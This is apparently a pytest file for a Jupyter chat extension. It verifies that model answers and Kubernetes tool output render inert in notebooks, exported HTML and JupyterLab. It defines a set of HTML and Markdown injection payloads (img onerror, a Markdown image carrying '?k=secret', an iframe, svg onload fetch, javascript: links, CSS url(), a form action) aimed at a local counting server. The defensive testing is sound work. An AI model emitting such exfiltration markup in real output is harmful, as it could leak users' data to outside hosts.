"""What a notebook shows of a turn: tool blocks with problem-first tables, and an answer that
stays text. Cluster and model text never loads a resource, runs, styles the page or submits.

The payloads are the issue's: ``<img>``, Markdown images, ``<iframe>``, ``<svg onload>``,
``javascript:`` links, CSS ``url()``. The saved form is checked end to end: a notebook with
``%%kchat`` cells executed by nbclient against the demo model and the sample cluster, exported
by nbconvert's HTML exporter (no kchat extension anywhere), parsed, then opened in Chromium
next to a loopback server that counts every request the page makes to the payloads' host.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import nbformat
import orjson
import pytest
from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_notebook

from jupyter_kchat.kernel import ChatResult, ToolCall
from jupyter_kchat.notebook_html import ROWS_SHOWN, tool_block, turn_html, usage_text
from jupyter_kchat.safe_html import markdown_to_html

REPO = Path(__file__).resolve().parent.parent
ARTIFACTS = REPO / "artifacts"
SCREENSHOTS = ARTIFACTS / "screenshots"
CHROMIUM = "/usr/bin/chromium"
HOST = "http://127.0.0.1:9"
"""The payloads' host in the tests that need no server (port 9: discard, never listening)."""

RESOURCE_TAGS = {"img", "iframe", "svg", "image", "video", "audio", "source", "object", "embed",
                 "link", "style", "script", "form", "input", "meta", "base", "frame"}


def payloads(host: str) -> dict[str, str]:
    """Name -> Markdown that would make a careless renderer fetch ``host`` or run code."""
    return {
        "img-tag": f'<img src="{host}/img-tag?k=secret" onerror="alert(1)">',
        "md-image": f"![cluster secrets]({host}/md-image?k=secret)",
        "iframe": f'<iframe src="{host}/iframe"></iframe>',
        "svg-onload": f"<svg onload=\"fetch('{host}/svg-onload')\">"
                      f'<image href="{host}/svg-image"/></svg>',
        "js-link": f"[open the dashboard](javascript:fetch('{host}/js-link'))",
        "css-url": f'<div style="background:url({host}/css-url)">styled text</div>',
        "raw-js-link": f"<a href=\"javascript:fetch('{host}/raw-js-link')\">raw link</a>",
        "form": f'<form action="{host}/form"><button>send</button></form>',
    }


class Elements(HTMLParser):
    """Every start tag of a document, with its attributes, and the text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html: str) -> Elements:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser


def assert_inert(html: str) -> Elements:
    """No element that loads, runs, styles or submits; every link opens safely in a new tab."""
    parsed = parse(html)
    for tag, attrs in parsed.tags:
        assert tag not in RESOURCE_TAGS, f"<{tag}> in {html[:300]}"
        assert "src" not in attrs and "srcset" not in attrs and "action" not in attrs
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert "url(" not in (attrs.get("style") or "")
        if tag == "a":
            assert attrs.get("target") == "_blank"
            assert attrs.get("rel") == "noopener noreferrer"
            assert attrs.get("referrerpolicy") == "no-referrer"
            assert urlsplit(attrs.get("href") or "").scheme in ("http", "https", "mailto")
    return parsed


@pytest.mark.parametrize("name", sorted(payloads(HOST)))
def test_answer_payloads_stay_text(name: str) -> None:
    markdown = payloads(HOST)[name]
    parsed = assert_inert(markdown_to_html(f"Found in a log line: {markdown}"))
    assert "Found in a log line" in "".join(parsed.text)


def test_images_and_loading_tags_become_visible_links() -> None:
    for name in ("img-tag", "md-image", "iframe", "svg-onload", "css-url"):
        parsed = assert_inert(markdown_to_html(payloads(HOST)[name]))
        hrefs = [attrs["href"] for tag, attrs in parsed.tags if tag == "a"]
        assert hrefs and all(href.startswith(f"{HOST}/") for href in hrefs), name
        shown = "".join(parsed.text)
        assert all(href in shown for href in hrefs), f"{name}: the URL is visible"


def test_javascript_links_are_not_links_but_stay_readable() -> None:
    for name in ("js-link", "raw-js-link"):
        parsed = assert_inert(markdown_to_html(payloads(HOST)[name]))
        assert not [tag for tag, _ in parsed.tags if tag == "a"]
        assert "javascript:" in "".join(parsed.text), "the text is still there to read"


def test_ordinary_markdown_renders() -> None:
    html = markdown_to_html(
        "## Pods\n\n**2** crashlooping:\n\n| name | reason |\n| --- | --- |\n"
        "| web-1 | CrashLoopBackOff |\n\n```bash\nkubectl get pods\n```\n"
        "See [the docs](https://kubernetes.io/docs/)."
    )
    parsed = assert_inert(html)
    tags = [tag for tag, _ in parsed.tags]
    assert {"h2", "strong", "table", "td", "pre", "code", "a"} <= set(tags)


def pods(problems: int, healthy: int) -> list[dict[str, Any]]:
    """Rows as list_pods gives them: the ones that need attention first, with a reason."""
    broken = [{"namespace": "shop", "name": f"cart-{i}", "phase": "Running",
               "reason": "CrashLoopBackOff"} for i in range(problems)]
    fine = [{"namespace": "shop", "name": f"web-{i}", "phase": "Running", "reason": ""}
            for i in range(healthy)]
    return broken + fine


def call(rows: list[dict[str, Any]] | None = None, **fields: Any) -> ToolCall:
    return ToolCall(**{"id": "c1", "name": "list_pods", "arguments": {"namespace": "shop"},
                       "status": "completed", "result": "NAME STATUS", "rows": rows,
                       "duration_ms": 14.0, **fields})


def test_tool_block_shows_first_rows_problems_first_and_how_many_more() -> None:
    rows = pods(3, 40)
    html = tool_block(call(rows))
    parsed = assert_inert(html)
    summary = "".join(parsed.text)
    assert "list_pods(namespace='shop')" in summary and "14 ms" in summary
    assert "43 rows (3 need attention)" in summary
    cells = [t for t in parsed.text if t.startswith(("cart-", "web-"))]
    assert cells == [row["name"] for row in rows[:ROWS_SHOWN]], "in the tool's order"
    assert f"{43 - ROWS_SHOWN} more (43 rows in all" in summary
    assert html.startswith('<details class="kchat-tool"') and " open>" in html.split("<summary")[0]


def test_healthy_block_starts_closed_and_errors_start_open() -> None:
    assert " open" not in tool_block(call(pods(0, 5))).split("<summary")[0]
    failed = tool_block(call(None, status="error", result="Error: forbidden"))
    assert " open" in failed.split("<summary")[0] and "Error: forbidden" in failed


def test_cluster_text_in_tables_and_results_is_escaped() -> None:
    evil = payloads(HOST)
    rows = [{"object": "pod/web-1", "message": evil["img-tag"], "reason": evil["svg-onload"]}]
    html = tool_block(call(rows, name="list_events", result="\n".join(evil.values()),
                           arguments={"message": evil["iframe"]}))
    parsed = assert_inert(html)
    text = "".join(parsed.text)
    assert evil["img-tag"] in text and evil["iframe"] in text, "shown as the text it is"
    assert not [tag for tag, _ in parsed.tags if tag == "a"], "tool text makes no links"


def test_usage_reads_as_the_panel_shows_it() -> None:
    usage = {
        "prompt_tokens": 1234,
        "completion_tokens": 321,
        "context_used": 0.18,
        "cost_usd": 0.0042,
    }
    assert usage_text(usage) == "1,234 + 321 tokens · 18% of context · $0.0042"
    estimated = {
        "prompt_tokens": 40,
        "completion_tokens": 2,
        "context_window": 8192,
        "estimated": True,
    }
    assert usage_text(estimated) == "≈ 40 + 2 tokens · <1% of context"
    assert usage_text(None) == "" and usage_text({"prompt_tokens": "x"}) == ""
    result = ChatResult("Three nodes.", "c-1", usage=usage)
    assert "18% of context" in result._repr_html_()
    assert "Stopped." in ChatResult("", "c-1", usage=usage, cancelled=True)._repr_html_()


def test_turn_with_an_answer_errors_and_status() -> None:
    html = turn_html([call(pods(1, 1))], payloads(HOST)["md-image"], ["<b>model</b> failed"],
                     "Reading the results...")
    parsed = assert_inert(html)
    text = "".join(parsed.text)
    assert "<b>model</b> failed" in text and "Reading the results..." in text


class Counter(ThreadingHTTPServer):
    """A loopback server that counts every request, whatever it asks for."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        counter = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                counter.paths.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *args: Any) -> None:
                return None

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture(scope="module")
def counter() -> Iterator[Counter]:
    server = Counter()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def notebook_cells(host: str) -> list[Any]:
    answer = "\n\n".join(payloads(host).values())
    bad_name = orjson.dumps(
        {"name": f'<img src="{host}/tool-img">', "namespace": "default"}
    ).decode()
    return [
        new_code_cell(
            "%load_ext jupyter_kchat\nfrom jupyter_kchat.sample.offline import use_offline_demo\n"
            "use_offline_demo(pods=60);", id="setup",
        ),
        new_code_cell("%%kchat\nlist all pods", id="list-pods"),
        new_code_cell(f"%%kchat --new\nsay {answer}", id="payload-answer"),
        new_code_cell(f"%%kchat --new\ncall tool get_pod with {bad_name}", id="payload-tool"),
        new_code_cell("r = %kchat --new list pods in payments", id="assigned"),
        new_code_cell("r", id="shown"),
    ]


def run_and_export(cells: list[Any], tmp_path: Path, name: str) -> dict[str, Any]:
    """``cells`` run by nbclient in a fresh kernel, then the notebook as nbconvert's lab
    template renders it: both returned and written to ``artifacts/<name>.ipynb`` / ``.html``."""
    from nbclient import NotebookClient
    from test_notebooks import kernel_env

    notebook = new_notebook(cells=cells)
    notebook.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    client = NotebookClient(
        notebook,
        timeout=120,
        kernel_name="python3",
        resources={"metadata": {"path": str(tmp_path)}},
    )
    client.execute(env=kernel_env(tmp_path))
    html, _ = HTMLExporter(template_name="lab").from_notebook_node(notebook)
    ARTIFACTS.mkdir(exist_ok=True)
    (ARTIFACTS / f"{name}.ipynb").write_text(nbformat.writes(notebook))
    (ARTIFACTS / f"{name}.html").write_text(html)
    return {"notebook": notebook, "html": html}


@pytest.fixture(scope="module")
def saved(counter: Counter, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The executed notebook and its nbconvert HTML, written to artifacts/."""
    tmp_path = tmp_path_factory.mktemp("saved-notebook")
    return run_and_export(notebook_cells(counter.url), tmp_path, "notebook_saved")


def outputs_html(notebook: Any, cell_id: str) -> str:
    cell = next(c for c in notebook.cells if c.get("id") == cell_id)
    errors = [o for o in cell.outputs if o.output_type == "error"]
    assert not errors, f"{cell_id}: {errors[0].evalue}"
    return "\n".join(o.data["text/html"] for o in cell.outputs if "text/html" in o.get("data", {}))


def test_saved_notebook_keeps_tool_blocks_and_tables(saved: dict[str, Any]) -> None:
    notebook = saved["notebook"]
    for cell in notebook.cells:
        for output in cell.outputs:
            assert "text/markdown" not in output.get("data", {}), cell.id
    listing = outputs_html(notebook, "list-pods")
    parsed = assert_inert(listing)
    assert "list_pods(all_namespaces=True)" in "".join(parsed.text)
    assert "need attention" in "".join(parsed.text)
    assert "<table" in listing and "CrashLoopBackOff" in listing
    shown = outputs_html(notebook, "shown")
    assert "list_pods(namespace='payments')" in "".join(parse(shown).text)
    assert "<table" in shown, "the cell's value (a ChatResult) shows the blocks too"
    assert "<table" in saved["html"] and 'class="kchat-tool"' in saved["html"]


def test_saved_notebook_references_nothing_from_its_outputs(
    saved: dict[str, Any], counter: Counter
) -> None:
    notebook = saved["notebook"]
    for cell in notebook.cells:
        html = outputs_html(notebook, cell.id)
        parsed = assert_inert(html)
        for tag, attrs in parsed.tags:
            href = attrs.get("href")
            if tag == "a" and href:
                assert href.startswith(counter.url) and href in "".join(parsed.text), (
                    "the only links are the visible ones made from the payloads"
                )
    answer = "".join(parse(outputs_html(notebook, "payload-answer")).text)
    tool = "".join(parse(outputs_html(notebook, "payload-tool")).text)
    assert "javascript:" in answer and "styled text" in answer
    assert f'<img src="{counter.url}/tool-img">' in tool


@pytest.mark.browser
def test_saved_html_in_chromium_fetches_nothing(saved: dict[str, Any], counter: Counter) -> None:
    """The exported page in a real browser: zero requests reach the payloads' host."""
    from playwright.sync_api import Route, sync_playwright

    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: apt-get install chromium (make browser)")
    elsewhere: list[str] = []

    def only_loopback(route: Route) -> None:
        """nbconvert's template links require.js and MathJax from a CDN: never leave the host."""
        url = route.request.url
        if url.startswith(("file:", counter.url)):
            route.continue_()
        else:
            elsewhere.append(url)
            route.abort()

    before = len(counter.paths)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM,
                                             args=["--headless", "--no-sandbox", "--disable-gpu"])
        try:
            page = browser.new_page(viewport={"width": 1100, "height": 900})
            page.route("**/*", only_loopback)
            dialogs: list[str] = []
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.goto((ARTIFACTS / "notebook_saved.html").as_uri(), wait_until="load")
            page.wait_for_load_state("networkidle")
            blocks = page.locator("details.kchat-tool")
            assert blocks.count() >= 3
            assert page.locator("details.kchat-tool[open] table").first.is_visible()
            body = page.inner_text("body")
            assert "javascript:" in body and "styled text" in body and "need attention" in body
            links = page.locator(".kchat-answer a")
            for index in range(links.count()):
                assert links.nth(index).get_attribute("rel") == "noopener noreferrer"
            SCREENSHOTS.mkdir(parents=True, exist_ok=True)
            page.screenshot(path=str(SCREENSHOTS / "notebook_saved_html.png"), full_page=True)
        finally:
            browser.close()
    assert counter.paths[before:] == [], "no payload URL was fetched"
    assert not dialogs, "no script ran"
    assert all(urlsplit(url).hostname != "127.0.0.1" for url in elsewhere)


def only_loopback(allowed: tuple[str, ...], elsewhere: list[str]) -> Any:
    """A Playwright route handler: requests to ``allowed`` prefixes go on, others are aborted
    (and listed), so no test traffic leaves the machine."""
    from playwright.sync_api import Route

    def handle(route: Route) -> None:
        url = route.request.url
        if url.startswith(allowed):
            route.continue_()
        else:
            elsewhere.append(url)
            route.abort()

    return handle


@pytest.mark.browser
def test_live_notebook_in_jupyterlab_streams_tool_blocks_and_fetches_nothing(
    counter: Counter, tmp_path: Path
) -> None:
    """The same cells run in a real JupyterLab: the outputs render as they stream, with the
    panel's extension loaded but not needed, and the payloads' host still sees no request."""
    import os
    import sys

    from playwright.sync_api import sync_playwright
    from processes import Service, free_port
    from test_install import wait_until_listening
    from test_notebooks import kernel_env

    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: apt-get install chromium (make browser)")
    root = tmp_path / "root"
    root.mkdir()
    notebook = new_notebook(cells=notebook_cells(counter.url))
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                       "language": "python"}
    nbformat.write(notebook, root / "live.ipynb")
    port, token = free_port(), "kchat-live-notebook"
    lab = Service(
        [sys.executable, "-m", "jupyter", "lab", "--no-browser", "--ip=127.0.0.1",
         f"--port={port}", f"--IdentityProvider.token={token}", f"--ServerApp.root_dir={root}",
         "--LabApp.extension_manager=readonly", "--LabApp.news_url=None",
         "--LabApp.expose_app_in_browser=True", *(["--allow-root"] if os.geteuid() == 0 else [])],
        banner=f"http://127.0.0.1:{port}/lab", log=tmp_path / "lab.log", env=kernel_env(tmp_path),
    )
    elsewhere: list[str] = []
    before = len(counter.paths)
    try:
        wait_until_listening(lab, port)
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(
                executable_path=CHROMIUM, args=["--headless", "--no-sandbox", "--disable-gpu"]
            )
            try:
                page = browser.new_page(viewport={"width": 1400, "height": 1000})
                page.set_default_timeout(120_000)
                page.route("**/*", only_loopback((f"http://127.0.0.1:{port}/", counter.url),
                                                 elsewhere))
                page.goto(f"http://127.0.0.1:{port}/lab/tree/live.ipynb?token={token}")
                page.wait_for_function(
                    "() => window.jupyterapp?.shell.currentWidget?.sessionContext?.session"
                    "?.kernel?.status === 'idle'"
                )
                page.evaluate("window.jupyterapp.commands.execute('notebook:run-all-cells')")
                page.wait_for_function(
                    "() => [...document.querySelectorAll('.jp-CodeCell .jp-InputPrompt')]"
                    ".every(p => /\\[\\d+\\]/.test(p.textContent))"
                )
                outputs = page.locator(".jp-OutputArea-output")
                blocks = page.locator(".jp-OutputArea-output details.kchat-tool")
                assert blocks.count() >= 4
                assert page.locator("details.kchat-tool[open] table").first.is_visible()
                text = outputs.all_inner_texts()
                joined = "\n".join(text)
                assert "need attention" in joined and "javascript:" in joined
                assert "styled text" in joined and "/tool-img" in joined
                assert page.locator(".jp-OutputArea-output img").count() == 0
                assert page.locator(".jp-OutputArea-output iframe").count() == 0
                links = page.locator(".kchat-answer a").all()
                assert links
                for link in links:
                    assert "noopener" in (link.get_attribute("rel") or "")
                    assert link.get_attribute("referrerpolicy") == "no-referrer", (
                        "JupyterLab rewrites rel to noopener alone: no referrer all the same"
                    )
                    assert link.get_attribute("target") == "_blank"
                SCREENSHOTS.mkdir(parents=True, exist_ok=True)
                page.screenshot(path=str(SCREENSHOTS / "notebook_live_lab.png"))
                page.locator(".kchat-answer").nth(1).scroll_into_view_if_needed()
                page.screenshot(path=str(SCREENSHOTS / "notebook_live_lab_payloads.png"))
            finally:
                browser.close()
    finally:
        lab.stop()
    assert counter.paths[before:] == [], "no payload URL was fetched"
    assert not [url for url in elsewhere if urlsplit(url).hostname in ("127.0.0.1", "localhost")]
